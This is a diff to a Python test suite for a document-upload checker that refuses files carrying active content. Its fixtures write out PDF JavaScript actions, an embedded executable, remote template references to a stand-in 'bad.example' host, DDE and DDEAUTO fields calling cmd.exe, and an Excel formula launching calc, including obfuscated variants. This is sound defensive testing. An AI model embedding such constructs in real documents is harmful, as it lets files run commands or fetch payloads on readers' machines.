@@ -4,7 +4,9 @@ import io
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable
 from contextlib import suppress
+from typing import Any
 
 import pytest
 from hypothesis import given
@@ -14,6 +16,8 @@ from PIL import Image
 from grants.core.kernel.errors import InvalidInput
 from grants.platform.documents.checks import LARGEST, Upload, check, label
 from tests.platform.documents import files
+
+RUNS = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
 
 
 def kept(name: str, content: bytes) -> bytes:
@@ -134,6 +138,31 @@ def test_a_pdf_that_is_locked_broken_or_does_something_is_refused(content: bytes
     assert why in refusal("letter.pdf", content)
 
 
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        lambda: {"/OpenAction": {"/S": "/GoTo", "/Next": [RUNS]}},
+        lambda: {"/AcroForm": {"/Fields": [{"/FT": "/Tx", "/AA": {"/K": RUNS}}]}},
+        lambda: {"/AcroForm": {"/Fields": [], "/XFA": "<xdp/>"}},
+        lambda: {"/Outlines": {"/First": {"/Title": "Start", "/A": RUNS}}},
+        lambda: {"/AF": [{"/Type": "/Filespec", "/UF": "a.exe", "/EF": {"/F": {}}}]},
+        lambda: {"/OpenAction": {"/S": "/URI", "/Next": {"/S": "/GoToR", "/F": r"\\host\a"}}},
+        lambda: {"/Names": {"/JavaScript": {"/Names": ["a", RUNS]}}},
+        lambda: {"/AA": {"/WC": {"/S": "/Rendition", "/JS": "app.alert(1)"}}},
+    ],
+    ids=["next", "field", "XFA", "outline", "AF", "remote", "names", "rendition"],
+)
+def test_a_program_is_found_wherever_it_hangs(hidden: Callable[[], Any]) -> None:
+    assert "holds a program" in refusal("letter.pdf", files.pdf_holding(hidden()))
+
+
+def test_data_as_json_may_lie_in_a_pdf_and_nothing_else_under_that_name() -> None:
+    assert kept("letter.pdf", files.pdf(carries=b'{"amount": "5.00"}', named="facts.json"))
+    for content, name in ((b"MZ", "facts.json"), (b"{}", "facts.exe"), (b"[1,", "facts.json")):
+        pdf = files.pdf(carries=content, named=name)
+        assert "another file" in refusal("letter.pdf", pdf)
+
+
 def test_a_pdf_may_link_to_a_web_page() -> None:
     assert kept("letter.pdf", files.pdf_with_link("/URI"))
 
@@ -184,12 +213,70 @@ def test_an_archive_of_very_many_entries_is_refused() -> None:
     assert "unpacks to far too much" in refusal("letter.docx", many)
 
 
+MACROS = b'<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
+RELATION = '<{0}Relationships xmlns{1}="http://r"><{0}Relationship Type="http://s/{2}" {3}/>'
+RELATION += "</{0}Relationships>"
+AWAY = 'Target="http://bad.example/t" TargetMode="External"'
+SETTINGS = "word/_rels/settings.xml.rels"
+
+
+def _relation(kind: str, target: str = AWAY, prefix: str = "") -> str:
+    declared = f":{prefix[:-1]}" if prefix else ""
+    return RELATION.format(prefix, declared, kind, target)
+
+
+def _field(instruction: str) -> bytes:
+    return f'<w:a xmlns:w="x">{instruction}</w:a>'.encode()
+
+
+@pytest.mark.parametrize(
+    ("part", "content"),
+    [
+        (SETTINGS, _relation("attachedTemplate").encode("utf-16")),
+        (SETTINGS, _relation("attachedTemplate", prefix="p:").encode()),
+        (SETTINGS, _relation("attachedTemplate", AWAY.replace("nal", "n&#97;&#108;")).encode()),
+        ("word/_rels/document.xml.rels", _relation("image").encode()),
+        ("word/document.xml", _field("<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>")),
+        (
+            "word/document.xml",
+            _field("<w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E c</w:instrText>"),
+        ),
+        ("word/header1.xml", _field('<w:fldSimple w:instr=" DDE cmd"/>')),
+        ("word/document.xml", _field("<w:instrText> QUOTE 68 68 69 </w:instrText>")),
+        (
+            "word/document.xml",
+            _field('<w:instrText> INCLUDEPICTURE "http://bad.example/a.png"</w:instrText>'),
+        ),
+        ("xl/externalLinks/externalLink1.xml", b'<e xmlns="x"><ddeLink ddeService="cmd"/></e>'),
+        ("xl/worksheets/sheet9.xml", b"<a xmlns='x'><f>cmd|'/c calc'!A0</f></a>"),
+        ("[Content_Types].xml", MACROS.decode().encode("utf-16")),
+    ],
+)
+def test_what_fetches_or_runs_is_found_however_it_is_written(part: str, content: bytes) -> None:
+    assert "fetches something" in refusal("letter.docx", files.docx({part: content}))
+
+
+def test_an_open_document_shows_nothing_from_elsewhere() -> None:
+    picture = b'<a xmlns:x="l"><image x:href="%s"/></a>'
+    held = files.archive({**files.ODT, "content.xml": picture % b"Pictures/a.png"})
+    assert kept("letter.odt", held)
+    far = files.archive({**files.ODT, "content.xml": picture % b"https://bad.example/a.png"})
+    assert "fetches something" in refusal("letter.odt", far)
+
+
+def test_an_ordinary_field_or_formula_is_no_program() -> None:
+    words = _field("<w:fldChar/><w:instrText> PAGE </w:instrText><w:t>DDE</w:t>")
+    link = _field('<w:instrText> HYPERLINK "http://a.example/link dde" </w:instrText>')
+    sums = b"<a xmlns='x'><f>\"a|b\"&amp;Sheet1!A1</f></a>"
+    for part, content in (("document", words), ("header1", link), ("sheet1", sums)):
+        assert kept("letter.docx", files.docx({f"word/{part}.xml": content}))
+
+
 ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>'
 REMOTE = (
     b'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://s/attachedTemplate" '
     b'Target="http://bad.example/t.dotm" TargetMode="External"/></Relationships>'
 )
-MACROS = b'<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
 LINKED = (
     b'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas/hyperlink" '
     b'Target="http://good.example/" TargetMode="External"/></Relationships>'
